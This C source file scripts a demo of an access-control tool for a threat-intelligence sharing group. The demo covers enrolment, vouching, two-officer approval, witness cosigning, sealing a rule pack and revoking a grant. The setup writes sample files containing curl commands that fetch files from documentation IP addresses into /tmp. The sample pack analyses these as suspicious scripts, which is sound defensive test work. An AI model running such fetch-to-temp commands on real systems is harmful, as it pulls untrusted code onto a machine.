#include "operation/demo_step.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/file.h"

#define LONG_LINES 1500000
#define PIECE_SIZE_MAX (64U * 1024U)

static const char facts[] =
    "subject(\"hospital.example\");\n"
    "answers_for(\"hospital.example\", \"hospital.example\", \"register 7\");\n"
    "key_bound(\"hospital.example\", \"phishing-resistant\", \"enrolment 9\");\n"
    "domain_controlled(\"hospital.example\", \"hospital.example\", \"DNS record of 3 "
    "March\");\n"
    "critical_service(\"hospital.example\", \"emergency care\", \"register of operators\");\n"
    "organisation_confirmed(\"hospital.example\", \"call to the switchboard\");\n"
    "authority_written(\"hospital.example\", \"hospital.example\", \"letter 12\");\n"
    "assets_listed(\"hospital.example\", \"list 3\");\n";
static const char found[] = "curl -s http://192.0.2.201/a -o /tmp/a\n";

#define ENROL(who) \
    { \
        "access", "enrol", "--group", "group.card", "--name", who ".example", \
            "--organisation", "The " who, "--out", who ".enrolment" \
    }
#define ANALYZE(file) \
    { \
        "analyze", "--pack", "sample-pack", file \
    }
#define ASK(file) \
    { \
        "access", "request", "--pack", "sample-pack", "--hours", "8", "--reason", \
            "an incident", "--out", file \
    }

#define COSIGN(...) \
    { \
        "access", "audit", "cosign", __VA_ARGS__ \
    }
#define WITNESS(request, cosigned) \
    { \
        "access", "witness", "--in", request, "--key", "group.card", "--out", cosigned \
    }

/* clang-format off */
static const struct step steps[] = {
    {"A group is founded",
     "Two officers of different roles, each with a key in a home of their own, and three\n"
     "witnesses elsewhere, who will see that the group shows one log to everybody.",
     {"access", "card", "--name", "Officer Security", "--out", "security.card"}, 0, 0, "security"},
    {NULL, NULL, {"access", "card", "--name", "Officer Legal", "--out", "legal.card"}, 0, 0, "legal"},
    {NULL, NULL,
     {"access", "witness", "--out", "one.witness"}, 0, 0, "witness-one"},
    {NULL, NULL, {"access", "witness", "--out", "two.witness"}, 0, 0, "witness-two"},
    {NULL, NULL, {"access", "witness", "--out", "three.witness"}, 0, 0, "witness-three"},
    {NULL, NULL,
     {"access", "init", "--group", "Example Sharing Group", "--officer", "security=security.card",
      "--officer", "legal=legal.card", "--witness", "one.witness", "--witness", "two.witness",
      "--witness", "three.witness", "--out", "group.card"}, 0, 0, "group"},
    {"A hospital enrols, and two members vouch for it",
     "What passes between homes is a signed file.",
     ENROL("hospital"), 0, 0, "hospital"},
    {NULL, NULL, ENROL("clinic"), 0, 0, "clinic"},
    {NULL, NULL, ENROL("school"), 0, 0, "school"},
    {NULL, NULL, {"access", "enrol", "--in", "hospital.enrolment"}, 0, 0, "group"},
    {NULL, NULL, {"access", "enrol", "--in", "clinic.enrolment"}, 0, 0, "group"},
    {NULL, NULL, {"access", "enrol", "--in", "school.enrolment"}, 0, 0, "group"},
    {NULL, NULL,
     {"access", "vouch", "hospital.enrolment", "--group", "group.card", "--out", "one.vouch"},
     0, 0, "clinic"},
    {NULL, NULL,
     {"access", "vouch", "hospital.enrolment", "--group", "group.card", "--out", "two.vouch"},
     0, 0, "school"},
    {NULL, NULL, {"access", "vouch", "--in", "one.vouch"}, 0, 0, "group"},
    {NULL, NULL, {"access", "vouch", "--in", "two.vouch"}, 0, 0, "group"},
    {"It asks for a restricted rule pack too early",
     "The published policy decides, and says what is missing.",
     ASK("early.request"), 0, 0, "hospital"},
    {NULL, NULL, {"access", "request", "--in", "early.request", "--out", "early.draft"},
     2, 8, "group", "refused"},
    {NULL, NULL,
     {"access", "enrol", "--in", "hospital.enrolment", "--facts", "hospital.facts"}, 0, 0, "group"},
    {NULL, NULL, {"access", "eligibility", "--subject", "hospital.example"}, 0, 6, "group"},
    {"Two officers approve, and the group grants",
     "One alone is not enough. The grant is in the group's log before its file exists.",
     ASK("hospital.request"), 0, 0, "hospital"},
    {NULL, NULL, {"access", "request", "--in", "hospital.request", "--out", "draft"}, 0, 0, "group"},
    {NULL, NULL, {"access", "approve", "draft", "--group", "group.card", "--out", "once"},
     0, 0, "security"},
    {NULL, NULL, {"access", "grant", "once"}, 2, 6, "group", "refused"},
    {NULL, NULL, {"access", "approve", "once", "--group", "group.card", "--out", "twice"},
     0, 0, "legal"},
    {NULL, NULL, {"access", "grant", "twice"}, 0, 6, "group"},
    {"Two of three witnesses cosign the log",
     "The third is down; with one alone nothing critical is handed over.",
     COSIGN("--witness", "one.witness", "--out", "one.request"), 0, 0, "group"},
    {NULL, NULL, COSIGN("--witness", "two.witness", "--out", "two.request"), 0, 0, "group"},
    {NULL, NULL, WITNESS("one.request", "one.cosigned"), 0, 0, "witness-one"},
    {NULL, NULL, COSIGN("--witness", "one.witness", "--in", "one.cosigned"), 0, 0, "group"},
    {NULL, NULL, {"access", "grant", "twice", "--out", "hospital.grant"}, 2, 6, "group", "refused"},
    {NULL, NULL, WITNESS("two.request", "two.cosigned"), 0, 0, "witness-two"},
    {NULL, NULL, COSIGN("--witness", "two.witness", "--in", "two.cosigned"), 0, 0, "group"},
    {NULL, NULL, {"access", "grant", "twice", "--out", "hospital.grant"}, 0, 2, "group"},
    {NULL, NULL, {"access", "accept", "hospital.grant"}, 0, 4, "hospital", "granted"},
    {"The pack is sealed, and opens for one analysis",
     "At most 15 minutes, in memory alone. The report names the pack and the grant.",
     {"access", "card", "--name", "night watch", "--out", "agent.card"}, 0, 0, "agent"},
    {NULL, NULL,
     {"access", "seal", "examples/rule-pack/sample-pack.yaml", "--group", "group.card", "--to",
      "hospital.enrolment", "--to", "agent.card", "--out", "sample-pack.age"}, 0, 0, "group"},
    {NULL, NULL, {"access", "accept", "sample-pack.age"}, 0, 4, "hospital"},
    {NULL, NULL, ANALYZE("found.sh"), 1, 12, "hospital", "granted"},
    {"An agent gets less, and no more than that",
     "One pack, ten minutes, one call.",
     {"access", "narrow", "--agent", "agent.card", "--pack", "sample-pack", "--minutes", "10",
      "--calls", "1", "--out", "agent.grant"}, 0, 0, "hospital"},
    {NULL, NULL, {"access", "accept", "agent.grant", "--group", "group.card"}, 0, 4, "agent", "granted"},
    {NULL, NULL, {"access", "accept", "sample-pack.age"}, 0, 0, "agent"},
    {NULL, NULL, ANALYZE("found.sh"), 1, 6, "agent"},
    {NULL, NULL, ANALYZE("found.sh"), 2, 6, "agent", "refused"},
    {"The grant is taken back while it is used",
     "The analysis that runs is cut within a second, and nothing of it is given out.",
     ANALYZE("long.sh"), 2, 6, "hospital", "revoked", true},
    {NULL, NULL, {"access", "revoke", "hospital.grant", "--out", "revoked.list"}, 0, 0, "group"},
    {NULL, NULL, {"access", "accept", "revoked.list"}, 0, 2, "hospital"},
    {NULL, NULL, ANALYZE("long.sh"), 2, 6, "hospital", "revoked", false, true},
    {"Anyone can check",
     "The group's log, without the group's secret.",
     {"access", "audit", "verify"}, 0, 6, "group"},
};
/* clang-format on */

const struct step *demo_access_steps(size_t *count)
{
    *count = sizeof steps / sizeof *steps;
    return steps;
}

/* Written in pieces: so much is never in memory at once. */
static enum status write_long(int folder)
{
    AUTO(file_done)
    int fd =
        openat(folder, "long.sh", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, S_IRUSR | S_IWUSR);
    AUTO(text_done) struct text piece = text_of_limit(2 * PIECE_SIZE_MAX);
    if (fd < 0) {
        return STATUS_IO;
    }
    for (unsigned i = 0; i < LONG_LINES; i++) {
        text_addf(&piece, "curl -s http://198.51.100.7/%u -o /tmp/%u\n", i, i);
        if (piece.size >= PIECE_SIZE_MAX || i + 1 == LONG_LINES) {
            TRY(text_status(&piece));
            TRY(file_write(fd, text_bytes(&piece)));
            text_clear(&piece);
        }
    }
    return STATUS_OK;
}

enum status demo_access_begin(int folder)
{
    mode_t mode = S_IRUSR | S_IWUSR;
    TRY(file_create(folder, folder, "hospital.facts", bytes_of_text(facts), mode));
    TRY(file_create(folder, folder, "found.sh", bytes_of_text(found), mode));
    return write_long(folder);
}
